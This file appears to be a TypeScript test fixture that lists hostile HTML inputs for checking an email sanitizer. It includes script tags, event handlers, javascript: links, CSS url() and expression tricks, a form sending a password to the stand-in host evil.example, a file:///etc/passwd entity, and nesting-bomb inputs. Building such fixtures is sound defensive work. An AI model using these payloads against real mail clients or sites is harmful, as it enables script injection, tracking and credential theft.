/** HTML that tries to bring something into a mail that runs, or is fetched. */
export interface HostileHtml {
  name: string;
  html: string;
  /** What a reader sees of it; not given: no matter what. */
  shows?: string;
}

const SCRIPTS: Record<string, string> = {
  "a script": "<script>alert(1)</script><p>shown</p>",
  "a script from elsewhere": '<p>shown</p><script src="https://evil.example/a.js"></script>',
  "in mixed case": "<ScRiPt>alert(1)</sCrIpT><p>shown</p>",
  "with attributes": '<script type="module" async>alert(1)</script><p>shown</p>',
  "that isn't closed": "<p>shown</p><script>alert(1)",
  "with a slash": "<script/src=https://evil.example/a.js></script><p>shown</p>",
  "in a script": "<script><script>alert(1)</script></script><p>shown</p>",
  "whose name is taken apart": "<scr<script>ipt>alert(1)</scr</script>ipt><p>shown</p>",
  "in a list": "<ul><li>shown<script>alert(1)</script></li></ul>",
  "behind a closing of the page": "<p>shown</p></body></html><script>alert(1)</script>",
  "in a noscript": "<noscript><script>alert(1)</script></noscript><p>shown</p>",
  "in a template": "<template><script>alert(1)</script></template><p>shown</p>",
};

const HANDLERS: Record<string, string> = {
  "of a picture": '<img src="x" onerror="alert(1)"><p>shown</p>',
  "in upper case": '<p ONCLICK="alert(1)">shown</p>',
  "without quotes": "<p onclick=alert(1)>shown</p>",
  "in single quotes": "<p onclick='alert(1)'>shown</p>",
  "with spaces": '<p onclick = "alert(1)">shown</p>',
  "after a slash": '<p/onclick="alert(1)">shown</p>',
  "after a line break": '<p\nonclick="alert(1)"\n>shown</p>',
  "in entities": '<p onclick="&#97;lert(1)">shown</p>',
  "of a link": '<a href="https://a.example" onmouseover="alert(1)" onfocus="alert(1)">shown</a>',
  "of the page": '<body onload="alert(1)"><p>shown</p></body>',
  "of a table": '<table onclick="alert(1)"><tr><td onmouseenter="alert(1)">shown</td></tr></table>',
  "of a field that takes the focus": "<input autofocus onfocus=alert(1)><p>shown</p>",
  "of something that opens": "<details open ontoggle=alert(1)><p>shown</p></details>",
  "of a text that moves": "<marquee onstart=alert(1)>shown</marquee>",
  "of an element that nobody knows": "<x-y onclick=alert(1)>shown</x-y>",
  "within the value of another": `<p lang='de" onclick="alert(1)'>shown</p>`,
  "within a title": `<p title='" onclick="alert(1)'>shown</p>`,
  "in a text of a picture": `<img src="logo.png" alt='" onerror="alert(1)'><p>shown</p>`,
  "in a tag that isn't closed": '<p>shown</p><img src="logo.png" onerror="alert(1)"',
};

const LINKS: Record<string, string> = {
  "javascript:": '<a href="javascript:alert(1)">shown</a>',
  "javascript: in mixed case": '<a href="JaVaScRiPt:alert(1)">shown</a>',
  "javascript: without quotes": "<a href=javascript:alert(1)>shown</a>",
  "javascript: in entities": '<a href="&#106;avascript&colon;alert(1)">shown</a>',
  "javascript: in hexadecimal entities": '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">shown</a>',
  "javascript: behind spaces": '<a href="  javascript:alert(1)">shown</a>',
  "javascript: behind a control character": '<a href="&#1;javascript:alert(1)">shown</a>',
  "javascript: with a tab in it": '<a href="java&Tab;script:alert(1)">shown</a>',
  "javascript: with a line break in it": '<a href="java\nscript:alert(1)">shown</a>',
  "vbscript:": '<a href="vbscript:msgbox(1)">shown</a>',
  "data: with HTML": '<a href="data:text/html,<script>alert(1)</script>">shown</a>',
  "file:": '<a href="file:///etc/passwd">shown</a>',
  "without a protocol": '<a href="//evil.example">shown</a>',
  "with backslashes": '<a href="\\\\evil.example">shown</a>',
  "two targets": '<a href="https://a.example" href="javascript:alert(1)">shown</a>',
  "with a ping": '<a href="https://a.example" ping="https://evil.example">shown</a>',
  "that downloads": '<a href="https://a.example" download="x.exe" target="_top">shown</a>',
  "of an older time": '<a xlink:href="javascript:alert(1)" name="x">shown</a>',
  "of a map":
    '<map name="m"><area shape="default" href="javascript:alert(1)"></map><p>shown</p><img src="logo.png" usemap="#m">',
};

const STYLES: Record<string, string> = {
  "a style sheet": "<style>p { background: url(https://evil.example/a) }</style><p>shown</p>",
  "an import": '<style>@import "https://evil.example/a.css";</style><p>shown</p>',
  "a link to a style sheet":
    '<link rel="stylesheet" href="https://evil.example/a.css"><p>shown</p>',
  "a preload": '<link rel="preload" as="image" href="https://evil.example/a.png"><p>shown</p>',
  "a style sheet in the head":
    "<html><head><style>body { display: none }</style></head><body><p>shown</p></body></html>",
  "a url": '<p style="background:url(https://evil.example/a)">shown</p>',
  "a url in quotes": `<p style="background-image: url('https://evil.example/a')">shown</p>`,
  "a url in mixed case": '<p style="BACKGROUND: UrL(https://evil.example/a)">shown</p>',
  "a url in escapes": '<p style="background:u\\72l(https://evil.example/a)">shown</p>',
  "a url behind a comment": '<p style="background:/**/url(https://evil.example/a)">shown</p>',
  "a url in entities": '<p style="background&#58;url&#40;https://evil.example/a&#41;">shown</p>',
  "a url for a list":
    '<ul style="list-style-image:url(https://evil.example/a)"><li>shown</li></ul>',
  "a url for a cursor": '<p style="cursor:url(https://evil.example/a),auto">shown</p>',
  "a url for a border": '<p style="border-image:url(https://evil.example/a) 1">shown</p>',
  "a set of pictures":
    '<p style="background-image:image-set(&quot;https://evil.example/a&quot; 1x)">shown</p>',
  "an expression": '<p style="width: expression(alert(1))">shown</p>',
  "an expression with a comment": '<p style="width: exp/**/ression(alert(1))">shown</p>',
  "a behaviour": '<p style="behavior:url(#default#time2)">shown</p>',
  "a binding": '<p style="-moz-binding:url(https://evil.example/a.xml#x)">shown</p>',
  "a place over all": '<p style="position:fixed;top:0;left:0;z-index:9999;color:red">shown</p>',
  "a text of its own": `<p style="content:'Your account'">shown</p>`,
  "a variable": '<p style="--x:url(https://evil.example/a);color:var(--x)">shown</p>',
  "a font from elsewhere":
    "<style>@font-face { font-family: x; src: url(https://evil.example/f.woff) }</style><p>shown</p>",
  "an end of the attribute": '<p style="color:red&quot; onclick=&quot;alert(1)">shown</p>',
  "a style sheet in a style": '<p style="}</style><script>alert(1)</script>">shown</p>',
};

const ELEMENTS: Record<string, string> = {
  "an iframe": '<iframe src="https://evil.example"></iframe><p>shown</p>',
  "an iframe with a page": '<iframe srcdoc="<script>alert(1)</script>"></iframe><p>shown</p>',
  "an iframe with javascript:": '<iframe src="javascript:alert(1)"></iframe><p>shown</p>',
  "a set of frames": '<p>shown</p><frameset><frame src="https://evil.example"></frameset>',
  "an object": '<object data="https://evil.example/a.swf"><p>inside</p></object><p>shown</p>',
  "an embed": '<embed src="https://evil.example/a.swf"><p>shown</p>',
  "an applet": '<applet code="A.class" codebase="https://evil.example"></applet><p>shown</p>',
  "a video": '<video src="https://evil.example/a.mp4" poster="x" autoplay></video><p>shown</p>',
  "a sound": '<audio src="https://evil.example/a.mp3" autoplay></audio><p>shown</p>',
  "a form":
    '<form action="https://evil.example"><input name="password" value="x"><button>Go</button></form><p>shown</p>',
  "a button with a form": '<button formaction="javascript:alert(1)">shown</button>',
  "a list to choose from": "<select><option>a</option></select><p>shown</p>",
  "a field with a tag":
    "<textarea></textarea><p>shown</p><textarea><script>alert(1)</script></textarea>",
  "a picture that is a field": '<input type="image" src="https://evil.example/a.png"><p>shown</p>',
  "a redirect": '<meta http-equiv="refresh" content="0;url=https://evil.example"><p>shown</p>',
  "a redirect to javascript:":
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>shown</p>',
  "a cookie": '<meta http-equiv="Set-Cookie" content="a=b"><p>shown</p>',
  "a base": '<base href="https://evil.example/"><p>shown</p>',
  "a title": "<title>Other</title><p>shown</p>",
  "an svg with a handler": '<svg onload="alert(1)"><circle r="1"/></svg><p>shown</p>',
  "an svg with a script": "<svg><script>alert(1)</script></svg><p>shown</p>",
  "an svg with a link":
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><p>shown</p>',
  "an svg with a picture":
    '<svg><image href="https://evil.example/a.png"/><use href="https://evil.example/a.svg#x"/></svg><p>shown</p>',
  "an svg with HTML":
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg><p>shown</p>",
  "a formula with a link": '<math href="javascript:alert(1)"><mi>x</mi></math><p>shown</p>',
  "a dialog": "<dialog open>shown</dialog>",
  "a page with a manifest":
    '<html manifest="https://evil.example/a"><body><p>shown</p></body></html>',
};

const PICTURES: Record<string, string> = {
  "from the network": '<img src="https://evil.example/pixel.png"><p>shown</p>',
  "without a protocol": '<img src="//evil.example/pixel.png"><p>shown</p>',
  "from javascript:": '<img src="javascript:alert(1)"><p>shown</p>',
  "from data: as svg":
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>shown</p>',
  "in more than one size":
    '<img src="logo.png" srcset="https://evil.example/a.png 2x"><p>shown</p>',
  "that is chosen":
    '<picture><source srcset="https://evil.example/a.webp"><img src="logo.png"></picture><p>shown</p>',
  "that is loaded later":
    '<img data-src="https://evil.example/a" lowsrc="https://evil.example/b"><p>shown</p>',
  "below a table": '<table background="https://evil.example/a.png"><tr><td>shown</td></tr></table>',
  "below a cell": '<table><tr><td background="https://evil.example/a.png">shown</td></tr></table>',
  "below the page": '<body background="https://evil.example/a.png"><p>shown</p></body>',
  "by its old name": '<image src="https://evil.example/a.png"><p>shown</p>',
  "with a long description":
    '<img src="logo.png" longdesc="https://evil.example" crossorigin><p>shown</p>',
};

const OUTLOOK: Record<string, string> = {
  "what Outlook alone reads":
    '<!--[if mso]><img src="https://evil.example/a.png"><![endif]--><p>shown</p>',
  "what all others read": "<!--[if !mso]><!--><p>shown</p><!--<![endif]-->",
  "a condition that is no comment":
    "<![if !mso]><p>shown</p><![endif]><![if mso]><script>alert(1)</script><![endif]>",
  "a picture in VML":
    '<!--[if gte vml 1]><v:shape><v:imagedata src="https://evil.example/a.png"/></v:shape><![endif]--><p>shown</p>',
  "VML without a condition":
    '<v:rect><v:fill src="https://evil.example/a.png"/></v:rect><o:p></o:p><p>shown</p>',
  "data for Office":
    "<xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><p>shown</p>",
};

const SYNTAX: Record<string, string> = {
  "a comment": "<!-- <script>alert(1)</script> --><p>shown</p>",
  "a comment that isn't closed": "<p>shown</p><!-- <script>alert(1)</script>",
  "a comment that ends early": "<!--><p>shown</p><!---->",
  "a CDATA section": "<p>shown</p><![CDATA[<script>alert(1)</script>]]>",
  "a processing instruction": '<?xml-stylesheet href="https://evil.example/a.xsl"?><p>shown</p>',
  "a declaration": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>shown</p>',
  "a page in a page":
    '<html onclick="alert(1)"><head><title>x</title></head><body class="x" onload="alert(1)"><p>shown</p></body></html>',
  "elements that cross": "<b><i>shown</b></i><p><table><p></table>",
  "closing tags of nothing": "</div></body></html></p><p>shown</p></table></td>",
  "a tag that isn't closed": '<p>shown</p><a href="https://a.example"',
  "a quote that isn't closed":
    '<p>shown</p><a href="https://a.example>x</a><script>alert(1)</script>',
  "angle brackets of nothing": "<p>shown 1 < 2 > 0 <> </p>",
  "entities of a tag": "<p>shown &lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "entities of entities": "<p>shown &amp;lt;script&amp;gt;</p>",
  "attributes without a name": '<p ="x" =onclick=alert(1) "">shown</p>',
  "many elements in elements": `${"<div>".repeat(2_000)}shown`,
  "many tables in tables": `${"<table><tr><td>".repeat(300)}shown`,
  "many attributes": `<p ${Array.from({ length: 2_000 }, (_, at) => `a${at}=1`).join(" ")}>shown</p>`,
  "many styles": `<p style="${"color:red;".repeat(2_000)}">shown</p>`,
  "a long word": `<p>shown ${"a".repeat(100_000)}</p>`,
};

const GROUPS: Record<string, Record<string, string>> = {
  ...{ script: SCRIPTS, handler: HANDLERS, link: LINKS, style: STYLES, element: ELEMENTS },
  ...{ picture: PICTURES, Outlook: OUTLOOK, syntax: SYNTAX },
};

export const HOSTILE_HTML: readonly HostileHtml[] = Object.entries(GROUPS).flatMap(
  ([group, inputs]) =>
    Object.entries(inputs).map(([name, html]) => ({ name: `${group}: ${name}`, html })),
);
